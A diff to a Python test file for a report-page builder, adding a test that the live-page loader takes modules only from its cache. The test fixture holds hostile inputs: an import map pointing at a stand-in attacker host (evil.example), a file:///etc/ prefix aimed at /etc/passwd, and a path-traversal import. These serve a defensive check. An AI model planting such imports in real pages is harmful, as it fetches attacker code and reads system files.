@@ -20,6 +20,7 @@ from showcase.browser.launch import launch_browser
 from showcase.errors import UserError
 from showcase.report import write_comparison, write_run_report
 from showcase.report.load import load_run
+from showcase.report.play import write_play
 from showcase.report.rating import Rating, write_rating
 
 STEP_S = 30.0  # bound on every single browser call (the machine is shared: generous)
@@ -472,6 +473,17 @@ def test_the_live_page_ships_only_what_it_imports(tmp_path):
                                f"{npm}three@0.170.0/examples/jsm/controls/OrbitControls.js"]  # no tween.js, no cannon-es
     assert "<script type=\"importmap\">\n{" not in play  # the page's own map is replaced by the loader's
     assert list(run.glob("report-play/*")) == [run / "report-play" / "game.html"]
+
+
+def test_the_live_page_takes_nothing_but_the_cache(tmp_path):
+    """An import map pointing anywhere else ships nothing: the page's request fails in its frame."""
+    page = tmp_path / "game.html"
+    page.write_text('<script type="importmap">{"imports": {"three": "https://evil.example/three.js", "x/": "file:///etc/"}}'
+                    '</script><script type="module">import "three"; import "x/passwd"; import "../../secret.js";</script>')
+    play = write_play(page, tmp_path / "play", {})
+    assert play.files == [] and play.missing == ["https://evil.example/three.js", "file:///etc/passwd"]
+    text = play.page.read_text()
+    assert "__showcaseModules ||=" not in text and "passwd" in text  # the page itself is kept as it was
 
 
 def test_rate_stores_a_rating_the_pages_show(tmp_path):
